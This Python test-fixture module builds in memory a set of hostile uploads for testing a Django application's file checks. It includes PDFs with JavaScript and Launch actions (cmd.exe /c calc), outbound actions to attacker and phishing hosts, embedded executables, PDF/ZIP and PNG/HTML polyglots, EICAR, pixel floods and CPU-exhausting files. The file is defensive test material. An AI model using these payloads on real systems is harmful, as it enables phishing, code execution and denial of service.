"""Builders of the hostile upload set (security reference A.3), made in memory: nothing binary is committed.

Each ``*_upload`` function returns a fresh ``SimpleUploadedFile``; the lower-level builders return bytes.
"""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, StreamObject

MAX_BYTES = 2 * 1024 * 1024

# Kept in two halves so that this source file itself does not carry the test signature.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# The three objects of a minimal one-page document, for the hand-built PDFs below.
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- PDF ----------------------------------------------------------------------------------------------------


def pdf_bytes() -> bytes:
    """A valid one-page blank PDF written by pypdf."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return _write(writer)


def build_pdf(objects: list[bytes], *, padding: int = 0, comment: bytes = b"") -> bytes:
    """Assemble a PDF by hand from object bodies (object 1 is the catalog), with a correct xref table.

    ``padding`` bytes of comment lines are inserted after the header; ``comment`` is one extra comment line.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    while padding >= 256:
        out += b"%" + b"x" * 254 + b"\n"
        padding -= 256
    if padding >= 2:
        out += b"%" + b"x" * (padding - 2) + b"\n"
    elif padding == 1:
        out += b"\n"
    if comment:
        out += b"% " + comment + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_of_exact_size(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes, padded with comment lines so that it still parses."""
    padding = 0
    for _ in range(10):
        content = build_pdf([CATALOG, PAGES, PAGE], padding=padding)
        if len(content) == size:
            return content
        padding += size - len(content)
    raise AssertionError(f"could not build a PDF of {size} bytes")


def pdf_with_catalog_entries(entries: bytes, *extra_objects: bytes) -> bytes:
    """A one-page PDF whose catalog has extra ``entries``; ``extra_objects`` are numbered from 4."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>"
    return build_pdf([catalog, PAGES, PAGE, *extra_objects])


def pdf_with_page_entries(entries: bytes, *extra_objects: bytes) -> bytes:
    """A one-page PDF whose page dictionary has extra ``entries``; ``extra_objects`` are numbered from 4."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + entries + b" >>"
    return build_pdf([CATALOG, PAGES, page, *extra_objects])


def pdf_costly_to_draw(fills: int = 20_000) -> bytes:
    """Two kilobytes that pass every upload check and ask PDFium for minutes of CPU: one page whose compressed
    content stream fills the whole page ``fills`` times over (20,000: more than 30 s of CPU here)."""
    operations = zlib.compress(b"0 0 m 595 842 l 0 842 l h f\n" * fills, 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    contents = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(operations), operations)
    return build_pdf([CATALOG, PAGES, page, contents])


def pdf_with_open_action_javascript() -> bytes:
    return pdf_with_catalog_entries(b"/OpenAction 4 0 R", b"<< /Type /Action /S /JavaScript /JS (app.alert(1);) >>")


def pdf_with_hex_escaped_javascript() -> bytes:
    """/OpenAction JavaScript spelt with #xx escapes: invisible to the raw-bytes scan, seen by the object walk."""
    return pdf_with_catalog_entries(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1);) >>")


def pdf_with_javascript_name_tree() -> bytes:
    """Document-level JavaScript in the catalog's /Names tree, as pypdf's ``add_open_action`` writes it."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _write(writer)


def pdf_with_page_additional_action() -> bytes:
    return pdf_with_page_entries(b"/AA << /O << /S /JavaScript /JS (app.alert(1);) >> >>")


def pdf_with_launch_action() -> bytes:
    return pdf_with_catalog_entries(b"/OpenAction << /S /Launch /F (cmd.exe) >>")


def pdf_with_embedded_file() -> bytes:
    """An attached executable in the /EmbeddedFiles name tree, as pypdf's ``add_attachment`` writes it."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return _write(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>"
    filespec = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
    embedded = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
    return pdf_with_page_entries(b"/Annots [4 0 R]", annotation, filespec, embedded)


def pdf_with_javascript_token_in_comment() -> bytes:
    """Only the raw-bytes scan sees this one: the token sits in a comment, outside any object."""
    return build_pdf([CATALOG, PAGES, PAGE], comment=b"/JavaScript ")


def pdf_with_benign_open_action_and_link() -> bytes:
    """Common and harmless: open at page 1 fitted, an internal link and a "next page" action. Must be accepted."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>"
    goto = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    named = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Named /N /NextPage >> >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R 6 0 R] >>"
    return build_pdf([catalog, PAGES, page, link, goto, named])


# Actions that leave the document, and where they hang (issue 9: all of these were accepted).
URI_ACTION = b"<< /Type /Action /S /URI /URI (https://phishing.example/login) >>"
SUBMIT_ACTION = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> /Flags 4 >>"
GOTOR_ACTION = b"<< /S /GoToR /F (//attacker.example/share/a.pdf) /D [0 /Fit] >>"
GOTOE_ACTION = b"<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>"
IMPORT_ACTION = b"<< /S /ImportData /F (data.fdf) >>"
LAUNCH_ACTION = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
JAVASCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert(1);) >>"


def pdf_with_open_action(action: bytes) -> bytes:
    """The action as the catalog's /OpenAction, run when the document opens."""
    return pdf_with_catalog_entries(b"/OpenAction 4 0 R", action)


def pdf_with_document_additional_action(action: bytes) -> bytes:
    """The action under the catalog's /AA (/WC: "will close")."""
    return pdf_with_catalog_entries(b"/AA << /WC 4 0 R >>", action)


def pdf_with_page_open_action(action: bytes) -> bytes:
    """The action under the page's /AA (/O: "page opened")."""
    return pdf_with_page_entries(b"/AA << /O 4 0 R >>", action)


def pdf_with_link_annotation(action: bytes) -> bytes:
    """A Link annotation whose /A is the action (a click on the page runs it)."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A 5 0 R >>"
    return pdf_with_page_entries(b"/Annots [4 0 R]", link, action)


def pdf_with_form_field_kid_action(action: bytes) -> bytes:
    """An /AcroForm field whose kid widget has the action under /AA (/K: "keystroke")."""
    catalog_entries = b"/AcroForm << /Fields [4 0 R] >>"
    field = b"<< /FT /Tx /T (nom) /Kids [5 0 R] >>"
    widget = b"<< /Type /Annot /Subtype /Widget /Parent 4 0 R /Rect [0 0 50 20] /AA << /K 6 0 R >> >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_entries + b" >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [5 0 R] >>"
    return build_pdf([catalog, PAGES, page, field, widget, action])


def pdf_with_outline_action(action: bytes) -> bytes:
    """An outline (bookmark) item whose /A is the action."""
    outlines = b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>"
    item = b"<< /Title (Page 1) /Parent 4 0 R /A 6 0 R >>"
    return pdf_with_catalog_entries(b"/Outlines 4 0 R", outlines, item, action)


def pdf_with_chained_action(action: bytes) -> bytes:
    """A harmless GoTo /OpenAction whose /Next runs the action."""
    return pdf_with_catalog_entries(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", action)


def pdf_with_xfa_form() -> bytes:
    xfa = b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream"
    return pdf_with_catalog_entries(b"/AcroForm << /Fields [] /XFA 4 0 R >>", xfa)


def pdf_with_rich_media_annotation() -> bytes:
    annotation = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>"
    return pdf_with_page_entries(b"/Annots [4 0 R]", annotation)


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a ZIP archive appended after its %%EOF: readers open the PDF, unzip finds the payload."""
    return pdf_bytes() + zip_bytes()


def pdf_zip_polyglot_ending_with_eof() -> bytes:
    """The same, the archive's comment ending with %%EOF so that the file still "ends like a PDF"."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
        archive.comment = b"\n%%EOF\n"
    return pdf_bytes() + output.getvalue()


def pdf_incrementally_updated() -> bytes:
    """A PDF saved twice (an incremental update after the first %%EOF): two %%EOF markers, legitimate."""
    first = build_pdf([CATALOG, PAGES, PAGE])
    xref_start = len(first)
    update = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return first + update % (previous, xref_start)


def pdf_with_pages(count: int, *, declared: int | None = None) -> bytes:
    """A PDF of ``count`` blank pages sharing one empty content stream, in one flat page tree whose /Count says
    ``declared`` (default: the truth). 15,000 pages weigh 1.8 MB: under the size limit, and 2.4 s to accept before
    the page cap, 4 s to lay in each dossier PDF."""
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count if declared is None else declared)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    return build_pdf([CATALOG, pages, b"<< /Length 0 >>\nstream\n\nendstream", *[page] * count])


def pdf_with_nested_dictionaries(depth: int) -> bytes:
    """A page holding ``depth`` dictionaries one inside the other, unterminated the way pypdf recovers from: one
    logged error per level (12,000 for a depth of 25,000, 175 KB)."""
    nested = b"<</A " * depth + b"1" + b">>" * depth
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /X " + nested + b" >>"
    return build_pdf([CATALOG, PAGES, page])


def pdf_with_object_chain(count: int) -> bytes:
    """A one-page PDF whose page holds a chain of ``count`` tiny plain objects (``<< /N k+1 0 R >>``), all in the
    xref table: 30,000 weigh 1.7 MB, under the size limit; each costs the upload check and every dossier PDF."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /X 4 0 R >>"
    chain = [b"<< /N %d 0 R >>" % (number + 1) for number in range(4, count + 3)] + [b"null"]
    return build_pdf([CATALOG, PAGES, page, *chain])


def pdf_with_unlisted_objects(count: int) -> bytes:
    """``pdf_with_object_chain`` whose xref table lists only its first three objects: pypdf finds each of the
    others by searching the whole file for it."""
    content = pdf_with_object_chain(count)
    start = content.rindex(b"xref\n")
    offsets = [content.index(b"\n%d 0 obj" % number) + 1 for number in (1, 2, 3)]
    xref = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content[:start] + xref + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


def pdf_with_compressed_objects(count: int) -> bytes:
    """A one-page PDF whose page holds a chain of ``count`` tiny objects packed in one compressed object stream,
    listed by a cross-reference stream: 60,000 weigh 556 KB."""
    first = 5  # objects 1-3: catalog, pages, page; 4: the object stream; then the chain
    numbers = range(first, first + count)
    index, body = [], bytearray()
    for number in numbers:
        index.append(b"%d %d" % (number, len(body)))
        body += b"<</N %d 0 R>>" % (number + 1) if number + 1 < first + count else b"null"
    header = b" ".join(index) + b" "
    packed = zlib.compress(header + bytes(body), 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /X %d 0 R >>" % first
    object_stream = b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
        count,
        len(header),
        len(packed),
        packed,
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate([CATALOG, PAGES, page, object_stream], start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref_number, xref_offset = first + count, len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows += [struct.pack(">BIH", 2, 4, position) for position in range(count)]
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    data = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\n" % (
        xref_number,
        xref_number + 1,
        len(data),
    )
    out += b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (data, xref_offset)
    return bytes(out)


def pdf_without_pages() -> bytes:
    return build_pdf([CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_without_media_box(media_box: bytes = b"") -> bytes:
    """A one-page PDF whose page has no size pypdf can read: no /MediaBox (nor one inherited from its /Pages), or
    ``media_box`` when it is not four numbers. It passed the upload checks and made the dossier PDF a 500."""
    return build_pdf([CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R " + media_box + b" >>"])


def pdf_with_page_content(data: bytes, stream_entries: bytes = b"", page_entries: bytes = b"") -> bytes:
    """A one-page PDF whose page draws the content stream ``data`` (object 4, its dictionary holding
    ``stream_entries``: a /Filter, its /DecodeParms), with ``page_entries`` added to the page dictionary."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R " + page_entries + b" >>"
    contents = b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), stream_entries, data)
    return build_pdf([CATALOG, PAGES, page, contents])


# Pages whose content stream cannot be decoded, or whose resources are not dictionaries: the object walk of the
# upload checks passed them (it decodes no stream), then laying the dossier's header line on them raised in pypdf
# and made the dossier PDF a 500 and failed the commission's packs (found by review).
def pdf_with_unknown_content_filter() -> bytes:
    """A filter no reader knows: /JBIG3Decode does not exist, on purpose (pypdf raises NotImplementedError on it,
    which is what the dossier build must survive and the upload must refuse)."""
    return pdf_with_page_content(b"0 0 m 200 200 l S", b"/Filter /JBIG3Decode")


def pdf_with_broken_ascii85_content() -> bytes:
    """ASCII85 data holding bytes that are no ASCII85 digit (pypdf: ValueError)."""
    return pdf_with_page_content(b'87cURD]i,"Ebo80\x00\x01~>', b"/Filter /ASCII85Decode")


def pdf_with_zero_columns_predictor_content() -> bytes:
    """Flate data whose PNG predictor says its rows are 0 columns wide (pypdf: PdfReadError)."""
    return pdf_with_page_content(
        zlib.compress(b"0 0 m 200 200 l S\n"), b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 0 >>"
    )


def pdf_with_font_resource_not_a_dictionary() -> bytes:
    """A page whose /Resources /Font is a number (pypdf, merging another page's fonts into it: TypeError)."""
    return pdf_with_page_content(b"0 0 m 200 200 l S", page_entries=b"/Resources << /Font 7 >>")


UNMERGEABLE_PDFS = {
    "unknown filter": pdf_with_unknown_content_filter,
    "broken ASCII85": pdf_with_broken_ascii85_content,
    "zero-column predictor": pdf_with_zero_columns_predictor_content,
    "font resource not a dictionary": pdf_with_font_resource_not_a_dictionary,
}


def encrypted_pdf(
    user_password: str = "secret", *, algorithm: str = "RC4-128", javascript: str | None = None, text: str = ""
) -> bytes:
    """An encrypted PDF. With ``user_password=""`` it opens without a password in any reader: its author only set
    restrictions (here: nothing allowed), as on many attestations. ``javascript``: a document-level script;
    ``text``: written on the page."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    if text:
        contents = StreamObject()
        contents.set_data(b"BT /F1 12 Tf 20 100 Td (%s) Tj ET" % text.encode("ascii"))
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        page[NameObject("/Contents")] = writer._add_object(contents)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
        )
    if javascript:
        writer.add_open_action(JavaScript(javascript))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm=algorithm, permissions_flag=0)
    return _write(writer)


def truncated_pdf() -> bytes:
    content = pdf_bytes()
    return content[: len(content) // 2]


def _write(writer: PdfWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


# --- Images -------------------------------------------------------------------------------------------------

GPS_LATITUDE = (48.0, 51.0, 24.0)


def jpeg_bytes(size: tuple[int, int] = (64, 48), *, gps: bool = False, orientation: int | None = None) -> bytes:
    """A valid JPEG, optionally with an EXIF GPS position (Paris) and an EXIF orientation."""
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    if gps:
        gps_ifd = exif.get_ifd(ExifTags.IFD.GPSInfo)
        gps_ifd[ExifTags.GPS.GPSLatitudeRef] = "N"
        gps_ifd[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
        gps_ifd[ExifTags.GPS.GPSLongitudeRef] = "E"
        gps_ifd[ExifTags.GPS.GPSLongitude] = (2.0, 21.0, 3.0)
        exif[ExifTags.Base.Make] = "PhoneMaker"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    output = io.BytesIO()
    image.save(output, format="JPEG", exif=exif.tobytes())
    return output.getvalue()


def progressive_jpeg_with_extra_scans(size: tuple[int, int], extra_scans: int) -> bytes:
    """A progressive JPEG whose last scan (a few bytes of refinement) is repeated ``extra_scans`` times: the decoder
    goes over every block of the image again at each one. 16 Mpx with 20,000 extra scans weigh 374 KB and took
    14.6 s to check, 5,000 extra scans of 16 Mpx (249 KB) 128 s through the upload view."""
    output = io.BytesIO()
    Image.new("RGB", size, (120, 130, 140)).save(output, format="JPEG", progressive=True, quality=50)
    content = output.getvalue()
    assert content.endswith(b"\xff\xd9")
    last_scan = content.rindex(b"\xff\xda")
    return content[:-2] + content[last_scan:-2] * extra_scans + b"\xff\xd9"


def png_bytes(size: tuple[int, int] = (64, 48)) -> bytes:
    output = io.BytesIO()
    Image.new("RGBA", size, (30, 30, 200, 128)).save(output, format="PNG")
    return output.getvalue()


def zip_bytes() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return output.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG with a ZIP archive appended: image viewers show the picture, unzip finds the payload."""
    return jpeg_bytes() + zip_bytes()


def png_html_polyglot() -> bytes:
    """A PNG carrying HTML in a text chunk and after its end: the A.3 "PNG+HTML polyglot"."""
    html = b"<html><script>alert(document.domain)</script></html>"
    output = io.BytesIO()
    info = PngInfo()
    info.add_text("Comment", html.decode())
    Image.new("RGB", (16, 16)).save(output, format="PNG", pnginfo=info)
    return output.getvalue() + html


def png_of_size(width: int, height: int) -> bytes:
    """A 1-bit black PNG of any pixel size, streamed so that even 20 000 x 20 000 stays tiny (pixel flood)."""
    row = b"\x00" * (1 + (width + 7) // 8)  # Filter byte "none", then the packed pixels.
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


def jpeg_claiming_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` x ``height`` (pixel flood through the header only)."""
    content = bytearray(jpeg_bytes((16, 16)))
    sof = content.index(b"\xff\xc0")
    struct.pack_into(">HH", content, sof + 5, height, width)
    return bytes(content)


def grey_png(width: int, height: int, mode: str = "RGB") -> bytes:
    """A flat grey PNG written by Pillow: 6300 x 6300 RGB weighs about 130 KB (issue 9's pixel flood)."""
    output = io.BytesIO()
    Image.new(mode, (width, height), 128).save(output, format="PNG", compress_level=9)
    return output.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


# --- The set as uploads -------------------------------------------------------------------------------------


def valid_pdf_upload(name: str = "releve-de-notes.pdf") -> SimpleUploadedFile:
    return upload(name, pdf_bytes(), "application/pdf")


def jpeg_with_gps_upload() -> SimpleUploadedFile:
    return upload("photo.jpg", jpeg_bytes(gps=True), "image/jpeg")


def valid_png_upload() -> SimpleUploadedFile:
    return upload("scan.png", png_bytes(), "image/png")


def eicar_as_pdf_upload() -> SimpleUploadedFile:
    return upload("cv.pdf", EICAR, "application/pdf")


def jpeg_zip_polyglot_upload() -> SimpleUploadedFile:
    return upload("identite.jpg", jpeg_zip_polyglot(), "image/jpeg")


def png_html_polyglot_as_jpg_upload() -> SimpleUploadedFile:
    return upload("photo.jpg", png_html_polyglot(), "image/jpeg")


def zip_as_pdf_upload() -> SimpleUploadedFile:
    return upload("diplome.pdf", zip_bytes(), "application/pdf")


def pixel_flood_png_upload() -> SimpleUploadedFile:
    return upload("flood.png", png_of_size(20_000, 20_000), "image/png")


def empty_upload() -> SimpleUploadedFile:
    return upload("vide.pdf", b"", "application/pdf")


def exact_max_pdf_upload(max_bytes: int = MAX_BYTES) -> SimpleUploadedFile:
    return upload("gros.pdf", pdf_of_exact_size(max_bytes), "application/pdf")


def over_max_pdf_upload(max_bytes: int = MAX_BYTES) -> SimpleUploadedFile:
    return upload("trop-gros.pdf", pdf_of_exact_size(max_bytes + 1), "application/pdf")
